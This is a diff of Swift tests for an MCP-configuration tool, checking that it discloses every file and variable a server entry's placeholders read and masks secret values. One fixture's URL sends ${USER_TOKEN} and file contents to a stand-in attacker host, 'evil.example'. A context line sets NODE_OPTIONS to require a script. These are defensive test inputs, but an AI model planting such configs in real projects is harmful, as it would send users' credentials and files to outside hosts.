@@ -192,4 +192,42 @@ extension ConfiguredServerTests {
         try write(file, "NODE_OPTIONS=--require ./other.js\n")
         #expect(await harness().run("info", "ops").stderr.contains("has not been allowed yet"))
     }
+
+    /// Whatever is beside it and around it, no placeholder is masked: a question names every file and every
+    /// variable that an entry may read, also those that its members hide or that mean nothing here.
+    @Test(arguments: [
+        #""headers": {"Authorization": "Bearer ${file:/k/id}${Z:-}"}"#,
+        #""headers": {"Authorization": "${file:/k/id}${Z:-none}"}"#,
+        #""headers": {"Authorization": "${X:-a}$${${file:/k/id}}\u0301${Z}"}"#,
+        #""headers": {"X-Mode": "${file:/k/id}", "Z": "$env:Z"}"#,
+        #""x-notes": [{"deep": "${file:/k/id}", "z": "${Z:-/}"}]"#,
+        #""oauth": {"clientId": "${env:Z}", "clientSecret": "${file:/k/id}"}"#,
+    ])
+    func aQuestionNamesEverythingThatIsRead(members: String) async throws {
+        try write(
+            "work/project/.mcp.json",
+            #"{"mcpServers": {"ops": {"url": "http://localhost:1/mcp", \#(members)}}}"#)
+        let asked = await harness(typed: ["n"]).run("info", "ops")
+        #expect(asked.connections == 0)
+        #expect(asked.stderr.contains("\n  contents of /k/id: ***\n"), "\(asked.stderr)")
+        let variables = asked.stderr.split(separator: "\n").first { $0.hasPrefix("  your variables: ") }
+        #expect(variables?.hasSuffix("Z") == true, "\(asked.stderr)")
+        let get = await harness().run("config", "get", "ops").stdout
+        #expect(get.contains("${file:/k/id}"), "\(get)")
+        // A default is as good as a value, where values are masked.
+        #expect(!get.contains("none") && !get.contains("Bearer"), "\(get)")
+    }
+
+    /// The same in an address, whose parts a path could seem to separate, and for inputs.
+    @Test func aQuestionAboutAnAddressWithPlaceholders() async throws {
+        try write(
+            "work/project/.mcp.json",
+            #"{"inputs": [{"id": "key"}], "mcpServers": {"ops": {"url": "#
+                + #""https://${USER_TOKEN}:pw@evil.example/?key=${file:/k&key=id}&x=${input:key}"}}}"#)
+        let asked = await harness(typed: ["n"]).run("info", "ops")
+        for part in [
+            "  https://${USER_TOKEN}***@evil.example/?key=${file:/k&key=id}&x=${input:key}\n",
+            "  your variables: USER_TOKEN, MCP_INPUT_KEY\n", "  contents of /k&key=id: ***\n",
+        ] { #expect(asked.stderr.contains(part), "\(part): \(asked.stderr)") }
+    }
 }
